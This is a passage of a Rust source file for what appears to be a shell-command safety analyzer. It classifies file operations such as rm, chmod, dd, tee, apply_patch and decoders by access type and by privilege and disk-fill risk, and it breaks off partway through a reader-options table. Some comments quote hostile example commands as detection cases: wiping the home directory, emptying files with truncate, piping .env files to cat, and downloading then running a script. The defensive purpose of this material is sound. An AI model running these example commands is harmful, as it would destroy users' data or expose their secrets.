//! File utilities: deleting, moving, copying, linking, creating, re-moding, archiving, editing
//! in place, searching (`find -delete/-exec`, `fd -x`), reading, and the stream decoders
//! (`base64 -d`, `xxd -r`, `rev`, `tr`, `openssl enc -d`, decompressors). Options follow GNU
//! coreutils/findutils/sed/gawk/tar/gzip manuals, Info-ZIP `zip(1)`/`unzip(1)`, xxd(1),
//! openssl-enc(1), fd(1).

use crate::analyzer::{Analyzer, Inv};
use crate::decode;
use crate::facts::{Access, Scope};
use crate::model::{Arg, Cwd, State, Stream, Walk};
use crate::opts::{self, Parsed};
use crate::paths::{self, Resolved};

use super::{passthrough, read_operands, shell_code, sub_inv};

pub(super) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Option<Stream> {
    Some(match name {
        "rm" | "srm" | "trash" | "trash-put" | "rimraf" | "del" | "wipe" => rm(a, name, inv),
        "rmdir" | "unlink" => {
            let p = opts::parse(inv.rest(), &[], false);
            for op in &p.operands {
                a.path_arg(&inv.cwd, op, Access::Delete, name, false);
            }
            Stream::default()
        }
        "shred" => {
            let p = opts::parse(
                inv.rest(),
                &["-n", "-s", "--iterations", "--size", "--random-source"],
                false,
            );
            let remove = p.has(&["-u", "--remove"]);
            for op in &p.operands {
                a.path_arg(&inv.cwd, op, Access::Write, "shred", false);
                if remove {
                    a.path_arg(&inv.cwd, op, Access::Delete, "shred -u", false);
                }
            }
            Stream::default()
        }
        "mv" => mv_cp(a, inv, true),
        "cp" => mv_cp(a, inv, false),
        "ln" => ln(a, inv),
        // link(1): `link FILE1 FILE2` makes a hard link, like `ln FILE1 FILE2`.
        "link" => ln(a, inv),
        // sponge(1) (moreutils): soaks up stdin, then writes (`-a`: appends to) FILE.
        "sponge" => {
            let p = opts::parse(inv.rest(), &[], false);
            let how = if p.has(&["-a"]) {
                "sponge -a"
            } else {
                "sponge"
            };
            for op in p.operands.iter().take(8) {
                let r = a.path_arg(&inv.cwd, op, Access::Write, how, false);
                if !r.dynamic {
                    let mut s = inv.stdin.clone();
                    s.piped = false;
                    a.files.insert(r.path, s);
                }
            }
            if p.operands.is_empty() {
                return Some(passthrough(inv));
            }
            Stream::default()
        }
        "touch" => {
            let p = opts::parse(
                inv.rest(),
                &["-d", "-t", "-r", "--date", "--reference", "--time"],
                false,
            );
            if let Some(r) = p.value(&["-r", "--reference"]).cloned() {
                a.path_arg(&inv.cwd, &r, Access::Read, "touch -r", false);
            }
            // touch(1) writes no bytes: an existing file keeps its content (only its times
            // change) and a new one is empty, so no file it touches makes anything run later
            // or grants anything (`touch ~/.ssh/authorized_keys` lets no key in, an empty
            // `/etc/cron.d/x` schedules nothing). The path facts stay; what is later written
            // into the file is judged then. Time-stamp forgery is `timestomp` (system.rs).
            let installs = (a.facts.persistence.len(), a.facts.privilege.len());
            for op in &p.operands {
                a.path_arg(&inv.cwd, op, Access::Create, "touch", false);
            }
            a.facts.persistence.truncate(installs.0);
            a.facts.privilege.truncate(installs.1);
            Stream::default()
        }
        "mkdir" => {
            let p = opts::parse(inv.rest(), &["-m", "--mode", "-Z", "--context"], false);
            let mut targets = Vec::new();
            for op in &p.operands {
                targets.push(a.path_arg(&inv.cwd, op, Access::Create, "mkdir", false));
            }
            if let Some(m) = p.value(&["-m", "--mode"]).cloned() {
                mode_privilege(a, "mkdir", &m.text, &targets, &inv.evidence);
            }
            Stream::default()
        }
        "mktemp" => mktemp(a, inv, st),
        "chmod" => chmod(a, inv),
        "chown" | "chgrp" => {
            let p = opts::parse(inv.rest(), &["--from", "--reference"], false);
            let recursive = p.has(&["-R", "--recursive"]);
            let skip = usize::from(p.value(&["--reference"]).is_none());
            for op in p.operands.iter().skip(skip) {
                a.path_arg(&inv.cwd, op, Access::Chmod, name, recursive);
            }
            Stream::default()
        }
        "chattr" | "setfacl" | "setfattr" => {
            let rest = inv.rest();
            let recursive = rest
                .iter()
                .any(|x| x.text == "-R" || x.text == "--recursive");
            let mut skip_next = false;
            for op in rest {
                if skip_next {
                    skip_next = false;
                    continue;
                }
                let t = op.text.as_str();
                if matches!(
                    t,
                    "-m" | "-x" | "-n" | "-v" | "-M" | "-X" | "--set" | "--modify"
                ) {
                    skip_next = true;
                    continue;
                }
                if t.starts_with(['-', '+', '=']) {
                    continue;
                }
                a.path_arg(&inv.cwd, op, Access::Chmod, name, recursive);
            }
            Stream::default()
        }
        // chflags(1) (BSD, macOS): `chflags [-fhvx] [-R [-H|-L|-P]] FLAGS FILE…`; the first
        // operand is the flag list (`schg`, `uchg`, `nohidden`), the rest are the files.
        "chflags" => {
            let p = opts::parse(inv.rest(), &[], false);
            let recursive = p.has(&["-R"]);
            for op in p.operands.iter().skip(1) {
                a.path_arg(&inv.cwd, op, Access::Chmod, name, recursive);
            }
            Stream::default()
        }
        "install" => install(a, inv),
        // dcfldd(1) and dc3dd(1) are GNU dd with forensic options: the same `if=`/`of=` operands.
        "dd" | "dcfldd" | "dc3dd" => dd(a, inv),
        "truncate" | "fallocate" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-s",
                    "--size",
                    "-r",
                    "--reference",
                    "-o",
                    "--offset",
                    "-l",
                    "--length",
                ],
                false,
            );
            let access = if name == "truncate" {
                Access::Write
            } else {
                Access::Create
            };
            // `truncate -s 0` of a pattern empties every file it names: their contents are
            // gone as surely as with `rm` (a deletion of the pattern, `truncate -s 0 ~/*`).
            let empties = name == "truncate"
                && p.values(&["-s", "--size"])
                    .iter()
                    .any(|v| matches!(v.text.as_str(), "0" | "0K" | "0k" | "<0"));
            for op in &p.operands {
                let r = a.path_arg(&inv.cwd, op, access, name, false);
                if empties && r.glob {
                    a.add_path(&r, Access::Delete, "truncate -s 0", true, &op.raw);
                }
            }
            let size = p
                .values(&["-s", "--size", "-l", "--length"])
                .iter()
                .filter_map(|v| size_bytes(v.text.trim_start_matches(['+', '>'])))
                .max();
            if size.is_some_and(|n| n >= DISK_FILL_BYTES) && !p.operands.is_empty() {
                disk_fill(a, &inv.evidence);
            }
            Stream::default()
        }
        "tee" => tee(a, inv),
        "apply_patch" | "applypatch" => apply_patch(a, name, inv),
        "ls" | "dir" | "exa" | "eza" | "lsd" | "tree" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-I",
                    "--ignore",
                    "-w",
                    "--width",
                    "--color",
                    "--format",
                    "--sort",
                    "--time-style",
                    "-L",
                    "--hide",
                    "--block-size",
                    "-T",
                    "--tabsize",
                    "--quoting-style",
                    "--indicator-style",
                    "--time",
                    "-P",
                    "--level",
                    "--depth",
                ],
                false,
            );
            let mut dir = paths::resolve_or_cwd(p.operands.first(), &inv.cwd);
            if dir.glob {
                // `ls -d ~/*`, `ls ~/*`: a glob of every entry of one folder names them all, as a
                // listing of that folder does (adv11 class 8); any other glob is left alone.
                // Only a glob written in the command (not a name a substitution or `xargs` gave).
                let written = p
                    .operands
                    .first()
                    .is_some_and(|o| o.glob && !o.dynamic && !o.from_subst && o.raw.ends_with('*'));
                match dir.path.rsplit_once('/') {
                    Some((parent, "*"))
                        if written && !parent.is_empty() && !crate::expand::has_glob(parent) =>
                    {
                        dir = paths::Resolved {
                            path: parent.to_string(),
                            dynamic: dir.dynamic,
                            glob: false,
                        };
                    }
                    _ => return Some(Stream::default()),
                }
            }
            let mut out = listing(Some(&dir));
            out.walk = lister_walk(name, &p);
            out
        }
        "du" => {
            // `du -a DIR` prints every file below DIR (with its size), `du DIR` every folder:
            // a listing of the whole tree either way (`du -a ~ | cut -f2 | xargs rm`).
            let p = opts::parse(
                inv.rest(),
                &[
                    "-B",
                    "--block-size",
                    "-d",
                    "--max-depth",
                    "-t",
                    "--threshold",
                    "--exclude",
                    "-X",
                    "--exclude-from",
                    "--time-style",
                    "--files0-from",
                ],
                false,
            );
            let dir = paths::resolve_or_cwd(p.operands.first(), &inv.cwd);
            for op in &p.operands {
                a.path_arg(&inv.cwd, op, Access::Read, "du", false);
            }
            if dir.glob || (p.has(&["-s", "--summarize", "-c"]) && !p.has(&["-a", "--all"])) {
                return Some(Stream::default());
            }
            let mut out = listing(Some(&dir));
            let shallow = p
                .value(&["-d", "--max-depth"])
                .is_some_and(|v| matches!(v.text.as_str(), "0" | "1"));
            out.walk = if shallow { Walk::Top } else { Walk::Tree };
            out
        }
        "locate" | "mlocate" | "plocate" | "slocate" => {
            // The paths of the whole file system whose names match the patterns: a filtered
            // listing of `/` (`locate .env | xargs cat`).
            let mut out = listing(Some(&Resolved {
                path: "/".to_string(),
                dynamic: false,
                glob: false,
            }));
            out.walk = Walk::Filtered;
            out
        }
        "cat" | "tac" | "nl" => {
            let p = opts::parse(
                inv.rest(),
                &["-s", "-b", "-v", "-w", "-i", "--separator"],
                false,
            );
            let mut out = read_operands(a, name, inv, &p.operands, false);
            if name != "cat" || !p.opts.is_empty() {
                out.text = None;
            }
            out
        }
        "sed" => sed(a, inv),
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => awk(a, name, inv, st),
        "find" => find(a, inv, st),
        "fd" | "fdfind" => fd(a, inv, st),
        "tar" | "bsdtar" | "gtar" => tar(a, inv, st),
        "unzip" => unzip(a, inv),
        "zip" => zip(a, inv, st),
        "cpio" => cpio(a, inv),
        "gzip" | "gunzip" | "bzip2" | "bunzip2" | "xz" | "unxz" | "lzma" | "unlzma" | "zstd"
        | "unzstd" | "lz4" | "compress" | "uncompress" | "brotli" | "lzip" | "pigz" | "pbzip2" => {
            compressor(a, name, inv)
        }
        "zcat" | "bzcat" | "xzcat" | "zstdcat" | "lz4cat" | "lzcat" => {
            let p = opts::parse(inv.rest(), &[], false);
            let input = read_operands(a, name, inv, &p.operands, false);
            decompressed(input, name)
        }
        "base64" | "base32" | "basenc" => base64(a, name, inv),
        "xxd" => xxd(a, inv),
        "rev" => {
            let p = opts::parse(inv.rest(), &[], false);
            let input = read_operands(a, name, inv, &p.operands, false);
            let mut out = Stream {
                text: input.text.as_ref().map(|t| {
                    t.lines()
                        .map(|l| l.chars().rev().collect::<String>())
                        .collect::<Vec<_>>()
                        .join("\n")
                }),
                taint: input.taint.clone(),
                ..Stream::default()
            };
            if out.text.is_some() && out.taint.decoded.is_none() {
                out.taint.decoded = Some("rev".into());
            }
            out
        }
        "tr" => tr(inv),
        "uudecode" | "gpg" | "gpg2" | "age" | "openssl" => decoder_tools(a, name, inv)?,
        "less" => {
            // less(1): `+CMD` runs CMD at start-up as if typed; `!COMMAND` in it runs a shell
            // command (`less '+!rm -rf ~' README.md`, issue 11 item 10).
            for w in inv.rest().iter().take(16) {
                if let Some(cmd) = w.text.strip_prefix("+!").filter(|c| !c.trim().is_empty()) {
                    let code = opts::sub_arg(w, w.text.len() - cmd.len());
                    shell_code(a, inv, st, "less", &code, Some(Stream::default()));
                }
            }
            reader(a, name, inv)
        }
        "head" | "tail" | "more" | "most" | "wc" | "sha1sum" | "sha256sum" | "sha512sum"
        | "sha224sum" | "sha384sum" | "md5sum" | "b2sum" | "cksum" | "sum" | "strings" | "od"
        | "hexdump" | "file" | "stat" | "cmp" | "comm" | "join" | "paste" | "cut" | "fold"
        | "fmt" | "column" | "expand" | "unexpand" | "iconv" | "dos2unix" | "unix2dos" | "bat"
        | "batcat" | "view" | "pr" | "ptx" | "tsort" | "numfmt" | "look" | "readlink"
        | "realpath" | "sha1" | "shasum" | "diff" | "diff3" | "sdiff" | "colordiff" | "vimdiff"
        | "cmp3" | "jq" | "yq" | "gojq" | "jaq" | "xmllint" | "csvlook" | "mlr" | "envsubst" => {
            reader(a, name, inv)
        }
        "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "zgrep" | "ugrep" | "git-grep" => {
            grep(a, name, inv)
        }
        "sort" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-o",
                    "--output",
                    "-k",
                    "--key",
                    "-t",
                    "--field-separator",
                    "-S",
                    "--buffer-size",
                    "-T",
                    "--temporary-directory",
                    "--files0-from",
                    "--parallel",
                    "--batch-size",
                    "--compress-program",
                    "--random-source",
                ],
                false,
            );
            if let Some(o) = p.value(&["-o", "--output"]).cloned() {
                a.path_arg(&inv.cwd, &o, Access::Write, "sort -o", false);
            }
            let input = read_operands(a, "sort", inv, &p.operands, false);
            Stream {
                text: None,
                ..input
            }
        }
        "uniq" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-f",
                    "-s",
                    "-w",
                    "--skip-fields",
                    "--skip-chars",
                    "--check-chars",
                    "--group",
                    "--all-repeated",
                ],
                false,
            );
            let input = read_operands(a, "uniq", inv, p.operands.get(..1).unwrap_or(&[]), false);
            if let Some(o) = p.operands.get(1) {
                a.path_arg(&inv.cwd, o, Access::Write, "uniq", false);
            }
            Stream {
                text: None,
                ..input
            }
        }
        "split" | "csplit" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-a",
                    "-b",
                    "-C",
                    "-l",
                    "-n",
                    "-t",
                    "-f",
                    "--prefix",
                    "--suffix-length",
                    "--bytes",
                    "--lines",
                    "--number",
                    "--line-bytes",
                    "--separator",
                    "-d",
                    "--additional-suffix",
                    "--filter",
                    "--suffix-format",
                    "--digits",
                ],
                false,
            );
            if let Some(f) = p.operands.first() {
                if f.text != "-" {
                    a.path_arg(&inv.cwd, f, Access::Read, name, false);
                }
            }
            Stream::default()
        }
        "patch" => {
            let p = opts::parse(
                inv.rest(),
                &[
                    "-i",
                    "--input",
                    "-o",
                    "--output",
                    "-p",
                    "--strip",
                    "-d",
                    "--directory",
                    "-r",
                    "--reject-file",
                    "-B",
                    "-D",
                    "-F",
                    "-V",
                    "-z",
                    "--suffix",
                ],
                false,
            );
            if let Some(i) = p.value(&["-i", "--input"]).cloned() {
                a.path_arg(&inv.cwd, &i, Access::Read, "patch -i", false);
            } else if let Some(f) = inv.stdin.file.clone() {
                // `patch -p1 < fix.patch`: the patch file's targets are read by hookward-facts.
                let r = crate::paths::Resolved {
                    path: f,
                    dynamic: false,
                    glob: false,
                };
                a.add_path(&r, Access::Read, "patch -i", false, &inv.evidence);
            }
            if let Some(o) = p.value(&["-o", "--output"]).cloned() {
                a.path_arg(&inv.cwd, &o, Access::Write, "patch -o", false);
            } else if let Some(f) = p.operands.first() {
                a.path_arg(&inv.cwd, f, Access::Write, "patch", false);
            }
            Stream::default()
        }
        _ => return None,
    })
}

/// Every option value of `p` that names a file, read: helper for handlers with `-f FILE`.
fn read_values(a: &mut Analyzer, inv: &Inv, p: &Parsed, names: &[&str], how: &str) {
    let vals: Vec<Arg> = p.values(names).into_iter().cloned().collect();
    for v in vals {
        a.path_arg(&inv.cwd, &v, Access::Read, how, false);
    }
}

/// A path that is certainly a directory: `/`, `.`/`..`, a trailing `/`, a glob, or the
/// home, working or project directory or one of their ancestors.
fn known_dir(a: &Analyzer, arg: &Arg, r: &Resolved, cwd: &Cwd) -> bool {
    let t = arg.text.as_str();
    if t.ends_with('/')
        || t == "."
        || t == ".."
        || t.ends_with("/.")
        || t.ends_with("/..")
        || r.glob
    {
        return true;
    }
    if r.dynamic {
        return false;
    }
    let home = paths::normalize(&a.ctx.home);
    let mut anchors = vec![home, cwd.text.clone()];
    if let Some(p) = &a.ctx.project_dir {
        anchors.push(paths::normalize(p));
    }
    anchors
        .iter()
        .any(|x| x.starts_with('/') && paths::is_under(x, &r.path))
}

fn rm(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let p = opts::parse(inv.rest(), &["--interactive"], false);
    let recursive = matches!(name, "rimraf" | "del") || p.has(&["-r", "-R", "--recursive"]);
    for op in p.operands.iter().take(256) {
        a.path_arg(&inv.cwd, op, Access::Delete, name, recursive);
    }
    Stream::default()
}

fn mv_cp(a: &mut Analyzer, inv: &Inv, is_mv: bool) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-t",
            "--target-directory",
            "-S",
            "--suffix",
            "--backup",
            "--preserve",
            "--no-preserve",
            "--reflink",
            "--sparse",
            "--context",
        ],
        false,
    );
    let recursive = !is_mv && p.has(&["-r", "-R", "--recursive", "-a", "--archive"]);
    let (sources, dest): (Vec<Arg>, Option<Arg>) = match p.value(&["-t", "--target-directory"]) {
        Some(t) => (p.operands.clone(), Some(t.clone())),
        None => {
            let mut ops = p.operands.clone();
            let d = if ops.len() >= 2 { ops.pop() } else { None };
            (ops, d)
        }
    };
    let name = if is_mv { "mv" } else { "cp" };
    let cwd = inv.cwd.clone();
    // `cp -l`/`--link` makes hard links instead of copies: a link like `ln`'s (cp(1)).
    if !is_mv && !recursive && p.has(&["-l", "--link"]) {
        for s in sources.iter().take(256) {
            a.path_arg(&cwd, s, Access::Read, "cp link target", false);
        }
        if let Some(d) = &dest {
            a.path_arg(&cwd, d, Access::Create, "cp link", false);
        }
        return Stream::default();
    }
    let mut moved: Vec<(String, Option<Stream>)> = Vec::new();
    for s in sources.iter().take(256) {
        let r = paths::resolve(s, &cwd);
        if is_mv {
            let rec = known_dir(a, s, &r, &cwd);
            a.path_arg(&cwd, s, Access::Delete, "mv src", rec);
        } else {
            a.path_arg(&cwd, s, Access::Read, "cp src", recursive);
        }
        moved.push((r.path.clone(), a.files.get(&r.path).cloned()));
    }
    if let Some(d) = dest {
        let how = format!("{name} dest");
        let r = a.path_arg(
            &cwd,
            &d,
            Access::Create,
            &how,
            recursive || (is_mv && moved.len() > 1),
        );
        // Content known for a moved/copied file follows it (`curl -o x …; mv x y; sh y`).
        for (src, content) in moved {
            if let Some(c) = content {
                let target = if moved_into_dir(&d.text) {
                    paths::join(&r.path, paths::basename(&src))
                } else {
                    r.path.clone()
                };
                a.files.insert(target, c);
            }
        }
    }
    Stream::default()
}

fn moved_into_dir(dest: &str) -> bool {
    dest.ends_with('/') || dest == "." || dest == ".."
}

fn ln(a: &mut Analyzer, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &["-t", "--target-directory", "-S", "--suffix", "--backup"],
        false,
    );
    let cwd = inv.cwd.clone();
    let (targets, link): (Vec<Arg>, Option<Arg>) = match p.value(&["-t", "--target-directory"]) {
        Some(t) => (p.operands.clone(), Some(t.clone())),
        None => {
            let mut ops = p.operands.clone();
            if ops.len() >= 2 {
                let l = ops.pop();
                (ops, l)
            } else {
                (ops, None)
            }
        }
    };
    for t in &targets {
        a.path_arg(&cwd, t, Access::Read, "ln target", false);
    }
    match link {
        Some(l) => {
            a.path_arg(&cwd, &l, Access::Create, "ln", false);
        }
        None => {
            for t in &targets {
                let mut l = t.clone();
                l.text = paths::basename(&t.text).to_string();
                l.known_prefix = if t.dynamic { 0 } else { l.text.len() };
                a.path_arg(&cwd, &l, Access::Create, "ln", false);
            }
        }
    }
    Stream::default()
}

/// `mktemp`: creates a file (or `-d` directory) under `$TMPDIR`/`-p DIR`/`/tmp` (with
/// `-t`, `-p` or no template) or where the template says. The output stands for the name,
/// with the random part shown as `XXXXXXXXXX`.
fn mktemp(a: &mut Analyzer, inv: &Inv, st: &State) -> Stream {
    // GNU mktemp(1): `-p DIR` takes a value, `--tmpdir[=DIR]` only a glued one
    // (`mktemp --tmpdir gitconfig-XXXX` is a template in $TMPDIR).
    let p = opts::parse(inv.rest(), &["-p", "--suffix"], false);
    let tmpdir_opt = p
        .opts
        .iter()
        .any(|o| o.name == "-p" || o.name == "--tmpdir");
    let tmpdir = p
        .value(&["-p", "--tmpdir"])
        .filter(|v| !v.text.is_empty())
        .map(|v| v.text.clone())
        .or_else(|| {
            st.vars
                .get("TMPDIR")
                .filter(|v| !v.dynamic)
                .map(|v| v.text.clone())
        })
        .unwrap_or_else(|| "/tmp".to_string());
    let suffix = p
        .value(&["--suffix"])
        .map(|v| v.text.clone())
        .unwrap_or_default();
    let template = p.operands.first().map(|t| t.text.clone());
    let path = match template {
        None => format!("{tmpdir}/tmp.XXXXXXXXXX"),
        Some(t) if tmpdir_opt || p.has(&["-t"]) => format!("{tmpdir}/{}", paths::basename(&t)),
        Some(t) => paths::join(&inv.cwd.text, &t),
    };
    let path = paths::normalize(&format!("{path}{suffix}"));
    if !p.has(&["-u", "--dry-run"]) {
        let r = Resolved {
            path: path.clone(),
            dynamic: !inv.cwd.known && !path.starts_with('/'),
            glob: false,
        };
        a.add_path(&r, Access::Create, "mktemp", false, &inv.evidence);
    }
    Stream::text(format!("{path}\n"))
}

/// What a mode (`chmod`, `install -m`, `mkdir -m`) grants: (setuid/setgid, world-writable).
/// Symbolic modes per chmod(1): `[ugoa]*[+-=][rwxXst]*`, comma separated; `+w` without a
/// `who` is filtered by the umask and so is not world-writable.
pub(crate) fn mode_bits(mode: &str) -> (bool, bool) {
    let m = mode.trim();
    if !m.is_empty() && m.chars().all(|c| c.is_digit(8)) {
        let v = u32::from_str_radix(m, 8).unwrap_or(0);
        return (v & 0o6000 != 0, v & 0o002 != 0);
    }
    let mut setuid = false;
    let mut world = false;
    for clause in m.split(',') {
        let who_end = clause.find(['+', '-', '=']).unwrap_or(clause.len());
        let who = clause.get(..who_end).unwrap_or("");
        let mut rest = clause.get(who_end..).unwrap_or("");
        while let Some(op) = rest.chars().next() {
            let body_end = rest
                .char_indices()
                .skip(1)
                .find(|(_, c)| matches!(c, '+' | '-' | '='))
                .map(|(i, _)| i)
                .unwrap_or(rest.len());
            let perms = rest.get(1..body_end).unwrap_or("");
            if op != '-' {
                if perms.contains('s') {
                    setuid = true;
                }
                if perms.contains('w') && (who.contains('o') || who.contains('a')) {
                    world = true;
                }
            }
            rest = rest.get(body_end..).unwrap_or("");
        }
    }
    (setuid, world)
}

/// Privilege facts for a mode applied to `targets`: setuid/setgid always; world-writable only
/// outside the project and the temporary directories (a shared-machine risk there).
fn mode_privilege(
    a: &mut Analyzer,
    program: &str,
    mode: &str,
    targets: &[Resolved],
    evidence: &str,
) {
    let (setuid, world) = mode_bits(mode);
    if setuid {
        a.privilege("setuid", program, evidence);
    }
    if world {
        let outside = targets.iter().any(|r| {
            !matches!(
                paths::scope(&r.path, r.dynamic, a.ctx),
                Scope::Project | Scope::Temp
            )
        });
        if outside {
            a.privilege("world_writable", program, evidence);
        }
    }
}

/// Whether a chmod(1) mode leaves the group and others no access: an octal mode whose last two
/// digits are 0 (`600`, `0400`, `700`), or a symbolic one that only takes group and other
/// access away (`go-rwx`, `og=`, `g-rwx,o-rwx`). ssh(1) refuses a private key others can read
/// ("UNPROTECTED PRIVATE KEY FILE"), so this is the everyday fix of a key's permissions.
pub(crate) fn owner_only_mode(mode: &str) -> bool {
    let octal = (mode.len() == 3 || (mode.len() == 4 && mode.starts_with('0')))
        && mode.chars().all(|c| ('0'..='7').contains(&c))
        && mode.ends_with("00");
    let symbolic = !mode.is_empty()
        && mode.split(',').all(|clause| {
            let Some(op) = clause.find(['-', '=']) else {
                return false;
            };
            let (who, rest) = clause.split_at(op);
            !who.is_empty()
                && who.chars().all(|c| c == 'g' || c == 'o')
                && (rest == "="
                    || (rest.starts_with('-') && rest[1..].chars().all(|c| "rwxXst".contains(c))))
        });
    octal || symbolic
}

fn chmod(a: &mut Analyzer, inv: &Inv) -> Stream {
    let mut recursive = false;
    let mut mode: Option<String> = None;
    let mut files: Vec<Arg> = Vec::new();
    let mut reference = false;
    let mut end_opts = false;
    for arg in inv.rest() {
        let t = arg.text.as_str();
        if !end_opts {
            match t {
                "-R" | "--recursive" => {
                    recursive = true;
                    continue;
                }
                "-f" | "-v" | "-c" | "--silent" | "--quiet" | "--verbose" | "--changes"
                | "--no-preserve-root" | "--preserve-root" | "-h" | "--no-dereference" | "-H"
                | "-L" | "-P" => continue,
                "--" => {
                    end_opts = true;
                    continue;
                }
                _ if t.starts_with("--reference=") => {
                    reference = true;
                    continue;
                }
                _ if t.starts_with('-')
                    && t.len() > 1
                    && t.chars().skip(1).all(|c| "Rfvc".contains(c)) =>
                {
                    recursive |= t.contains('R');
                    continue;
                }
                _ => {}
            }
        }
        if mode.is_none() && !reference {
            mode = Some(t.to_string());
        } else {
            files.push(arg.clone());
        }
    }
    let mut targets = Vec::new();
    // Session 27: a mode that leaves group and others nothing is recorded as `chmod private`
    // (the policy lets it touch a credential store: it reads nothing and opens nothing).
    let how = if mode.as_deref().is_some_and(owner_only_mode) {
        "chmod private"
    } else {
        "chmod"
    };
    for f in files.iter().take(256) {
        targets.push(a.path_arg(&inv.cwd, f, Access::Chmod, how, recursive));
    }
    if let Some(m) = mode {
        mode_privilege(a, "chmod", &m, &targets, &inv.evidence);
    }
    Stream::default()
}

fn install(a: &mut Analyzer, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-m",
            "--mode",
            "-o",
            "--owner",
            "-g",
            "--group",
            "-t",
            "--target-directory",
            "-S",
            "--suffix",
            "-Z",
            "--context",
            "--strip-program",
            "--backup",
        ],
        false,
    );
    let cwd = inv.cwd.clone();
    let mut targets = Vec::new();
    if p.has(&["-d", "--directory"]) {
        for op in &p.operands {
            targets.push(a.path_arg(&cwd, op, Access::Create, "install", false));
        }
    } else {
        let (sources, dest) = match p.value(&["-t", "--target-directory"]) {
            Some(t) => (p.operands.clone(), Some(t.clone())),
            None => {
                let mut ops = p.operands.clone();
                let d = if ops.len() >= 2 { ops.pop() } else { None };
                (ops, d)
            }
        };
        for s in &sources {
            a.path_arg(&cwd, s, Access::Read, "install src", false);
        }
        if let Some(d) = dest {
            targets.push(a.path_arg(&cwd, &d, Access::Create, "install", false));
        }
    }
    if let Some(m) = p.value(&["-m", "--mode"]).cloned() {
        mode_privilege(a, "install", &m.text, &targets, &inv.evidence);
    }
    Stream::default()
}

fn dd(a: &mut Analyzer, inv: &Inv) -> Stream {
    let cwd = inv.cwd.clone();
    let mut input: Option<Stream> = None;
    let mut to_file = false;
    let (mut endless_source, mut to_regular_file) = (false, false);
    let (mut bs, mut count): (Option<u128>, Option<u128>) = (None, None);
    for arg in inv.rest() {
        if let Some(v) = arg.text.strip_prefix("if=") {
            let sub = opts::sub_arg(arg, 3);
            endless_source = ENDLESS_DEVICES.contains(&v);
            let r = a.path_arg(&cwd, &sub, Access::Read, "dd if=", false);
            input = Some(a.file_stream(&r.path));
        } else if let Some(v) = arg.text.strip_prefix("of=") {
            let sub = opts::sub_arg(arg, 3);
            to_regular_file = !v.starts_with("/dev/") && !arg.dynamic;
            a.path_arg(&cwd, &sub, Access::Write, "dd of=", false);
            to_file = true;
        } else if let Some(v) = arg
            .text
            .strip_prefix("bs=")
            .or_else(|| arg.text.strip_prefix("obs="))
        {
            bs = size_bytes(v);
        } else if let Some(v) = arg.text.strip_prefix("count=") {
            count = Some(size_bytes(v).unwrap_or(u128::MAX));
        }
    }
    // dd(1): `count=N` copies N input blocks of `bs` bytes (512 by default); without it dd copies
    // until the input ends, which an endless device never does.
    let total = count.map(|c| c.saturating_mul(bs.unwrap_or(512)));
    let fills = to_regular_file
        && ((endless_source && count.is_none()) || total.is_some_and(|t| t >= DISK_FILL_BYTES));
    if fills {
        disk_fill(a, &inv.evidence);
    }
    if to_file {
        return Stream::text("");
    }
    match input {
        Some(s) => Stream { text: None, ..s },
        None => passthrough(inv),
    }
}

fn tee(a: &mut Analyzer, inv: &Inv) -> Stream {
    let p = opts::parse(inv.rest(), &["--output-error"], false);
    let how = if p.has(&["-a", "--append"]) {
        "tee -a"
    } else {
        "tee"
    };
    let cwd = inv.cwd.clone();
    for op in p.operands.iter().take(64) {
        let r = a.path_arg(&cwd, op, Access::Write, how, false);
        if !r.dynamic {
            let mut s = inv.stdin.clone();
            s.piped = false;
            a.write_file_content(r.path, s, how == "tee -a");
        }
    }
    let mut out = inv.stdin.clone();
    out.piped = false;
    out.file = None;
    out
}

/// Codex's patch tool run as a program (Codex puts an `apply_patch` command on the shell's
/// `PATH`; the model can also write `cd DIR && apply_patch <<'EOF' … EOF`): the patch is its
/// first operand or its stdin, in Codex's format, and every `*** Add File:`, `*** Update File:`
/// and `*** Move to:` path is written and every `*** Delete File:` path deleted, relative to
/// the folder the command runs in (a preceding `cd` counts). A patch whose text is not known
/// here is code the analysis cannot see: unanalysable.
fn apply_patch(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let text = match inv.rest().first() {
        Some(op) if !op.text.starts_with('-') => (!op.dynamic).then(|| op.text.clone()),
        _ => inv.stdin.text.clone(),
    };
    let Some(text) = text else {
        a.unanalysable(
            "a patch whose text is only known at run time",
            &format!("{name} <patch>"),
        );
        return Stream::default();
    };
    let cwd = inv.cwd.clone();
    for line in text.lines().take(10_000) {
        let line = line.trim_end_matches('\r');
        let (access, how, rest) = if let Some(r) = line.strip_prefix("*** Add File:") {
            (Access::Create, "apply_patch add", r)
        } else if let Some(r) = line.strip_prefix("*** Update File:") {
            (Access::Write, "apply_patch update", r)
        } else if let Some(r) = line.strip_prefix("*** Move to:") {
            (Access::Create, "apply_patch move", r)
        } else if let Some(r) = line.strip_prefix("*** Delete File:") {
            (Access::Delete, "apply_patch delete", r)
        } else {
            continue;
        };
        let path = rest.trim();
        if !path.is_empty() {
            a.path_arg(&cwd, &Arg::lit(path), access, how, false);
        }
    }
    Stream::default()
}

/// Generic reader: operands are files read (values of options listed per program skipped).
fn reader(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    let wv: &[&str] = match name {
        "head" | "tail" => &[
            "-n",
            "-c",
            "--lines",
            "--bytes",
            "--pid",
            "-s",
            "--sleep-interval",
            "--max-unchanged-stats",
        ],
        "less" | "more" | "most" => &[
            "-p",
            "-x",
            "-y",
            "-b",
            "-h",
            "-j",
            "-z",
            "-o",
            "-O",
            "-t",
            "-T",
            "-P",
            "-k",
            "--pattern",
            "--tabs",
        ],
        "od" => &[
            "-A",
            "-t",
            "-j",
            "-N",
            "-w",
            "--address-radix",
            "--format",
            "--skip-bytes",
            "--read-bytes",
            "--width",
        ],
        "hexdump" => &["-n", "-s", "-e", "-f"],
